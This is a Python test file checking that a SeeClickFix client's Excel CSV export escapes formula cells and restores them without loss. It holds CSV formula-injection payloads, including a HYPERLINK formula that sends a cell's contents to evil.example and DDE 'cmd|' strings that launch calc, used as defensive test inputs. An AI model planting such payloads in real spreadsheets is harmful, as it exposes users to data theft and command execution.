"""CSV files for spreadsheet programs: no cell is a formula, and nothing is lost."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from random import Random
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from seeclickfix_async._tables.excel import escape_formula, unescape_formula
from seeclickfix_async.errors import InvalidArgumentError, ServerError
from seeclickfix_async.pull import open_sink, pull
from seeclickfix_async.sandbox import Sandbox, Settings
from seeclickfix_async.sandbox._serializers import _draw
from tests.support.map_pages import read_map
from tests.support.pulled_files import read_csv, vanished_ids
from tests.support.sandboxes import failing_client, make_client

_BOM = b"\xef\xbb\xbf"
_FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1-2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  \u00a0=1+1",
    "\ufeff=1+1",
    "\ufeff \ufeff@x",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
]
_PLAIN = ["Pothole", "1 = 1", "'quoted'", "a\n=b", "", "é \U0001f6b2", "\u200bx", " x", '"=1"']
_FORMULA = re.compile(r"[\s\x00-\x1f\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\t\r\n]")


@pytest.mark.parametrize("cell", _FORMULAS)
def test_a_formula_has_an_apostrophe_in_front(cell: str) -> None:
    assert escape_formula(cell) == f"'{cell}"
    assert unescape_formula(escape_formula(cell)) == cell


@pytest.mark.parametrize("cell", _PLAIN)
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert escape_formula(cell) == unescape_formula(cell) == cell


@given(st.text(st.sampled_from("=+-@\t\r\n' \ufeff\uff1da1\"")) | st.text())
def test_no_cell_is_a_formula_and_each_can_be_restored(cell: str) -> None:
    assert not _FORMULA.match(escape_formula(cell))
    assert unescape_formula(escape_formula(cell)) == cell


def _draw_cell(seed: int) -> Any:
    cell = Random(seed).choice([*_FORMULAS, *_PLAIN])
    return attrs.evolve(_draw(seed), description=cell)


@pytest.fixture
def city(monkeypatch: pytest.MonkeyPatch) -> Sandbox:
    monkeypatch.setattr("seeclickfix_async.sandbox._serializers._draw", _draw_cell)
    return Sandbox(150, settings=Settings(quota=None))


def _rows(path: Path) -> list[dict[str, Any]]:
    """Return the rows of a file for Excel, as its own reader restores them."""
    assert path.read_bytes().startswith(_BOM)
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    numbers = {"lat", "lng"}
    cells = [cell for row in rows for name, cell in row.items() if name not in numbers]
    assert not [cell for cell in cells if _FORMULA.match(cell)]
    restored = [{name: unescape_formula(cell) for name, cell in row.items()} for row in rows]
    return sorted(restored, key=lambda row: int(row["id"]))


def _plain_rows(path: Path) -> list[dict[str, Any]]:
    return sorted(read_csv(path), key=lambda row: int(row["id"]))


@pytest.mark.anyio
async def test_a_csv_for_excel_holds_the_same_values(city: Sandbox, tmp_path: Path) -> None:
    plain, path = tmp_path / "plain.csv", tmp_path / "excel.csv"
    await pull(make_client(city), to=plain)
    await pull(make_client(city), to=path, excel=True)

    assert not plain.read_bytes().startswith(_BOM)
    assert {row["description"] for row in _plain_rows(plain)} >= set(_FORMULAS)  # by default
    assert _rows(path) == _plain_rows(plain)
    assert read_map(path) == read_map(plain)
    assert any(float(row["lng"]) < 0 for row in _rows(path))


@pytest.mark.anyio
@pytest.mark.parametrize("excel", [False, True])  # of later calls
async def test_a_csv_stays_for_excel_when_it_is_continued(
    excel: bool, city: Sandbox, tmp_path: Path
) -> None:
    path = tmp_path / "city.csv"
    with pytest.raises(ServerError):
        await pull(failing_client(city, after=2), to=path, excel=True, page_size=20)
    assert (await pull(make_client(city), to=path, excel=excel)).complete
    city.city.touch(3)
    city.city.hide(7)
    report = await pull(make_client(city), to=path, sweep=True, excel=excel)

    assert (report.complete, report.vanished) == (True, 1)
    with open_sink(path) as sink:
        stored = {row.id: row for row in sink.stored_rows("")}
    assert {id_ for id_, row in stored.items() if row.vanished} == {city.city.id_of(7)}
    rows = _rows(path)
    assert len(rows) == len(stored) == 150
    assert [row["image"] or None for row in rows] == [stored[int(row["id"])].image for row in rows]
    await pull(make_client(city), to=tmp_path / "plain.csv")
    shown = [row for row in rows if int(row["id"]) != city.city.id_of(7)]
    assert shown == _plain_rows(tmp_path / "plain.csv")


@pytest.mark.anyio
async def test_an_image_that_looks_like_a_formula_is_read_back(
    city: Sandbox, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(
        "seeclickfix_async.sandbox._serializers.photo_links",
        lambda *_: {"image_full": "=cmd|'/C calc'!A0"},
    )
    monkeypatch.setattr(
        "seeclickfix_async.sandbox._serializers.issue_media", lambda _, links: links
    )
    with open_sink(tmp_path / "city.csv", excel=True) as sink:
        assert sink.is_empty
    await pull(make_client(city), to=tmp_path / "city.csv", excel=True)

    with open_sink(tmp_path / "city.csv") as sink:
        images = {row.image for row in sink.stored_rows("")}

    assert "=cmd|'/C calc'!A0" in images


@pytest.mark.anyio
async def test_excel_is_refused_where_it_has_no_effect(city: Sandbox, tmp_path: Path) -> None:
    for name in ("city.jsonl", "city.db", "city.parquet"):
        with pytest.raises(InvalidArgumentError, match="files only"):
            await pull(make_client(city), to=tmp_path / name, excel=True)
    await pull(make_client(city), to=tmp_path / "city.csv")
    city.requests.clear()

    with pytest.raises(InvalidArgumentError, match="begun without it") as caught:
        await pull(make_client(city), to=tmp_path / "city.csv", excel=True, update=True)

    assert caught.value.argument == "excel"
    assert len(city.requests) == 0
    assert vanished_ids(tmp_path / "city.csv") == set()
